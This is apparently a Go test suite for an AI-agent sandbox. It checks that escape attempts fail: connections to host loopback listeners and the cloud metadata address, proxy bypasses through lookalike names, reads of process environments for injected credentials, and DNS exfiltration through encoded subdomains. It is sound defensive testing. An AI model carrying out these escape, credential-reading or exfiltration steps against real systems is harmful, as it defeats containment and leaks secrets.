package escapetest

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/agentbox/agentbox/internal/testenv"
	"github.com/agentbox/agentbox/sandbox"
	"github.com/agentbox/agentbox/sandbox/egress"
)

// hostListener accepts TCP connections on addr in the test process,
// greets each with a secret and counts them.
type hostListener struct {
	ln       net.Listener
	port     string
	greeting string
	accepted atomic.Int64
}

func listenOnHost(t *testing.T, network, addr string) *hostListener {
	t.Helper()
	ln, err := net.Listen(network, addr)
	if err != nil {
		t.Fatalf("listen on the host's %s: %v", addr, err)
	}
	h := &hostListener{ln: ln, greeting: secret(t)}
	if a, ok := ln.Addr().(*net.TCPAddr); ok {
		h.port = strconv.Itoa(a.Port)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			h.accepted.Add(1)
			fmt.Fprintln(c, h.greeting)
			c.Close()
		}
	}()
	return h
}

// hostAddrs are the host's own non-loopback IPv4 addresses.
func hostAddrs(t *testing.T) []string {
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			out = append(out, n.IP.String())
		}
	}
	return out
}

// connectFails asserts that a connection attempt from inside failed and
// did not receive the host's greeting.
func connectFails(t *testing.T, s sandbox.Session, h *hostListener, want []string, args ...string) {
	t.Helper()
	got, out := attack(t, s, args...)
	if h != nil && strings.Contains(out, h.greeting) {
		t.Fatalf("ESCAPE: %q reached the host's listener:\n%s", args, out)
	}
	if got == "ok" {
		t.Fatalf("ESCAPE: %q connected to something:\n%s", args, out)
	}
	if len(want) > 0 && !contains(want, got) {
		t.Errorf("%q failed with %s, want %s", args, got, strings.Join(want, " or "))
	}
	t.Logf("stopped with %s", got)
}

func TestReachingAListenerOnTheHostLoopbackFails(t *testing.T) {
	s := shared(t)
	lo := listenOnHost(t, "tcp4", "127.0.0.1:0")
	any := listenOnHost(t, "tcp4", "0.0.0.0:0")
	lo6 := listenOnHost(t, "tcp6", "[::1]:0")
	abstract := "@agentbox-escapetest-" + strconv.FormatInt(time.Now().UnixNano(), 36)
	ab := listenOnHost(t, "unix", abstract)

	t.Run("127.0.0.1", func(t *testing.T) {
		connectFails(t, s, lo, []string{"ECONNREFUSED"}, "connect", "127.0.0.1:"+lo.port)
	})
	t.Run("a DNS query to a public resolver fails", func(t *testing.T) {
		connectFails(t, s, nil, []string{"ENETUNREACH"}, "connect-udp", "8.8.8.8:53")
	})
	t.Run("localhost by name", func(t *testing.T) {
		connectFails(t, s, lo, nil, "connect", "localhost:"+lo.port)
	})
	t.Run("a listener on every host address, through loopback", func(t *testing.T) {
		connectFails(t, s, any, []string{"ECONNREFUSED"}, "connect", "127.0.0.1:"+any.port)
	})
	t.Run("::1", func(t *testing.T) {
		connectFails(t, s, lo6, []string{"ECONNREFUSED", "EADDRNOTAVAIL", "ENETUNREACH"}, "connect", "[::1]:"+lo6.port)
	})
	for _, ip := range hostAddrs(t) {
		t.Run("the host's address "+ip, func(t *testing.T) {
			connectFails(t, s, any, []string{"ENETUNREACH"}, "connect", net.JoinHostPort(ip, any.port))
		})
	}
	t.Run("an abstract unix socket of the host", func(t *testing.T) {
		connectFails(t, s, ab, []string{"ECONNREFUSED"}, "connect-unix", abstract)
	})
	t.Run("the only interface is loopback", func(t *testing.T) {
		r := sh(t, s, "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '")
		if got := strings.TrimSpace(string(r.Stdout)); got != "lo" {
			t.Errorf("interfaces inside = %q, want only lo", got)
		}
	})
	for _, h := range []*hostListener{lo, any, lo6, ab} {
		if n := h.accepted.Load(); n != 0 {
			t.Errorf("ESCAPE: a host listener accepted %d connections from the sandbox", n)
		}
	}
}

func TestReachingAnUnlistedHostThroughTheProxyFails(t *testing.T) {
	c := newClient(t)
	spec := sandbox.Spec{Policy: sandbox.Policy{Network: sandbox.NetworkPolicy{
		Mode: sandbox.NetworkAllowList, Allow: []string{"allowed.test"},
	}}}
	if !enforces(c, sandbox.PartNetworkAllowList) {
		assertRefused(t, spec, sandbox.PartNetworkAllowList)
		return
	}
	lo := listenOnHost(t, "tcp4", "127.0.0.1:0")
	any := listenOnHost(t, "tcp4", "0.0.0.0:0")
	// A listed name that resolves to the host's loopback (as a DNS
	// rebinding attack would make it): the proxy must not dial it.
	spec.Policy.Network.Allow = append(spec.Policy.Network.Allow, "localhost:"+lo.port)
	s := newSession(t, spec)
	cases := []struct {
		name   string
		args   []string
		denied string // the host the refusal must name in Violations
	}{
		{"CONNECT to an unlisted host", []string{"proxy-connect", "denied.test:443"}, "denied.test"},
		{"plain HTTP to an unlisted host", []string{"proxy-get", "http://denied.test/"}, "denied.test"},
		{"CONNECT to a listed host on an unlisted port", []string{"proxy-connect", "allowed.test:22"}, "allowed.test"},
		{"CONNECT to a name that only starts with the listed one", []string{"proxy-connect", "allowed.test.evil.example:443"}, "allowed.test.evil.example"},
		{"CONNECT to a name that only ends with the listed one", []string{"proxy-connect", "notallowed.test:443"}, "notallowed.test"},
		{"CONNECT to the host's loopback listener", []string{"proxy-connect", "127.0.0.1:" + lo.port}, "127.0.0.1"},
		{"CONNECT to a listed name that resolves to the host's loopback", []string{"proxy-connect", "localhost:" + lo.port}, "localhost"},
		{"plain HTTP to a listed name that resolves to the host's loopback", []string{"proxy-get", "http://localhost:" + lo.port + "/"}, "localhost"},
		{"CONNECT to localhost on another port", []string{"proxy-connect", "localhost:" + any.port}, "localhost"},
		{"plain HTTP to the host's loopback with the listed Host header", []string{"proxy-get", "http://127.0.0.1:" + lo.port + "/", "allowed.test"}, "127.0.0.1"},
		{"CONNECT to the cloud metadata address", []string{"proxy-connect", "169.254.169.254:80"}, "169.254.169.254"},
	}
	for _, ip := range hostAddrs(t) {
		cases = append(cases, struct {
			name   string
			args   []string
			denied string
		}{"CONNECT to the host's address " + ip, []string{"proxy-connect", net.JoinHostPort(ip, any.port)}, ip})
	}
	for _, tc := range cases {
		t.Run(tc.name+" is refused", func(t *testing.T) {
			res := execIn(t, s, sandbox.ExecRequest{Cmd: append([]string{helper}, tc.args...)})
			got, out := parseResult(t, tc.args, res)
			if got == "ok" || strings.Contains(out, lo.greeting) || strings.Contains(out, any.greeting) {
				t.Fatalf("ESCAPE: the proxy let %q through:\n%s", tc.args, out)
			}
			if !strings.Contains(out, "status: 403") && !strings.Contains(out, "status: 502") {
				t.Errorf("the proxy answered %q, want status 403 (or 502 for a name it would not dial)", out)
			}
			if v := strings.Join(res.Violations, "\n"); !strings.Contains(v, tc.denied) {
				t.Errorf("violations %q do not name %s", res.Violations, tc.denied)
			}
			if !strings.Contains(backendLog.String(), "host="+tc.denied) {
				t.Errorf("the backend's log does not record the refusal of %s", tc.denied)
			}
		})
	}
	t.Run("a direct connection without the proxy fails", func(t *testing.T) {
		for _, addr := range append([]string{"1.1.1.1:443", "192.0.2.1:80", "[2606:4700:4700::1111]:443"}, func() []string {
			var out []string
			for _, ip := range hostAddrs(t) {
				out = append(out, net.JoinHostPort(ip, any.port))
			}
			return out
		}()...) {
			connectFails(t, s, any, []string{"ENETUNREACH"}, "connect", addr)
		}
		connectFails(t, s, lo, []string{"ECONNREFUSED"}, "connect", "127.0.0.1:"+lo.port)
	})
	t.Run("a DNS query to a public resolver fails", func(t *testing.T) {
		connectFails(t, s, nil, []string{"ENETUNREACH"}, "connect-udp", "8.8.8.8:53")
	})
	for _, h := range []*hostListener{lo, any} {
		if n := h.accepted.Load(); n != 0 {
			t.Errorf("ESCAPE: a host listener accepted %d connections from the sandbox", n)
		}
	}
}

// TestReadingInjectedCredentialsFails gives the egress proxy a credential
// for a listed upstream (a server in the test process, listed as an IP
// literal, the only way to list a loopback address) and looks for it
// everywhere the sandbox can: its environment, its processes, and what
// the upstream's answer carries back (the server echoes the header it
// got in a response header, which the proxy must drop).
func TestReadingInjectedCredentialsFails(t *testing.T) {
	c := newClient(t)
	if !enforces(c, sandbox.PartNetworkAllowList) {
		testenv.Skipf(t, "no allow-list on this host (refusal tested in TestReachingAnUnlistedHostThroughTheProxyFails)")
	}
	cred := secret(t)
	got := make(chan string, 8)
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got <- r.Header.Get("Authorization")
		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
		w.Header().Set("Authorization", r.Header.Get("Authorization"))
		io.WriteString(w, "hello from upstream\n")
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	upstream := ln.Addr().String()
	s := newSession(t, sandbox.Spec{Policy: sandbox.Policy{Network: sandbox.NetworkPolicy{
		Mode: sandbox.NetworkAllowList, Allow: []string{upstream},
		Credentials: map[string]map[string]string{upstream: {"Authorization": "Bearer " + cred}},
	}}})
	r := execIn(t, s, sandbox.ExecRequest{Cmd: []string{helper, "proxy-get", "http://" + upstream + "/"}})
	res, out := parseResult(t, []string{"proxy-get"}, r)
	t.Logf("the sandbox saw: %s", out)
	select {
	case h := <-got:
		if h != "Bearer "+cred {
			t.Fatalf("the upstream got Authorization %q, want the injected credential (is injection working?)", h)
		}
	case <-time.After(5 * time.Second):
		t.Fatalf("the request never reached the listed upstream: %s\n%s", res, out)
	}
	if strings.Contains(out, cred) {
		t.Fatalf("ESCAPE: the injected credential came back into the sandbox:\n%s", out)
	}
	if !strings.Contains(out, "hello from upstream") {
		t.Errorf("the sandbox did not get the upstream's answer:\n%s", out)
	}
	for _, script := range []string{"env", "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null", "grep -rs " + cred + " /tmp /workspace /etc"} {
		if r := sh(t, s, script); strings.Contains(string(r.Stdout), cred) {
			t.Errorf("ESCAPE: %q shows the injected credential", script)
		}
	}
	if st := s.State(); strings.Contains(fmt.Sprint(st), cred) {
		t.Errorf("the session's state carries the credential")
	}
}

// A wildcard entry lets the sandbox pick names the proxy resolves through
// the host's resolver: the attack encodes a secret in the names of a fast
// loop (DNS exfiltration), with one long label for a wide channel. Only a
// burst of short names may reach the resolver; the rest are refused and
// each refusal is a violation.
func TestExfiltratingThroughNamesUnderAWildcardIsBounded(t *testing.T) {
	c := newClient(t)
	spec := sandbox.Spec{Policy: sandbox.Policy{Network: sandbox.NetworkPolicy{
		Mode: sandbox.NetworkAllowList, Allow: []string{"*.exfil.test"},
	}}}
	if !enforces(c, sandbox.PartNetworkAllowList) {
		assertRefused(t, spec, sandbox.PartNetworkAllowList)
		return
	}
	s := newSession(t, spec)
	const tries = 40
	args := []string{helper, "batch"}
	for i := range tries {
		args = append(args, fmt.Sprintf("proxy-connect c%02d-%x.exfil.test:443", i, "secret-chunk"))
	}
	start := time.Now()
	res := execIn(t, s, sandbox.ExecRequest{Cmd: args})
	elapsed := time.Since(start)
	out := string(res.Stdout)
	if strings.Contains(out, "status: 200") {
		t.Fatalf("ESCAPE: the proxy opened a tunnel to a name the sandbox picked:\n%s", out)
	}
	refused := strings.Count(out, "status: 403") + strings.Count(out, "status: 429")
	answered := strings.Count(out, "status: ")
	if answered != tries {
		t.Fatalf("%d of %d requests were answered:\n%s", answered, tries, out)
	}
	// The others reached the resolver (502: the name does not resolve).
	// The loop takes a fraction of a second: the burst, plus a name per
	// second it ran.
	resolved := tries - refused
	if max := egress.DefaultBurst + int(elapsed/egress.DefaultEvery) + 1; resolved > max {
		t.Errorf("ESCAPE: %d of %d names picked by the sandbox reached the resolver in %s, want at most %d", resolved, tries, elapsed, max)
	}
	if v := strings.Join(res.Violations, "\n"); refused == 0 || strings.Count(v, "message through DNS") != refused {
		t.Errorf("%d refusals, violations %q: want one naming the bound for each", refused, res.Violations)
	}

	long := strings.Repeat("6b6579", 10) + ".exfil.test"
	res = execIn(t, s, sandbox.ExecRequest{Cmd: []string{helper, "proxy-connect", long + ":443"}})
	if got, out := parseResult(t, []string{long}, res); got == "ok" || !strings.Contains(out, "status: 403") {
		t.Errorf("a name with a 60-byte label: %s, want a 403 refusal", out)
	}
	if v := strings.Join(res.Violations, "\n"); !strings.Contains(v, "a label of 60 bytes") {
		t.Errorf("violations %q do not name the label bound", res.Violations)
	}
}
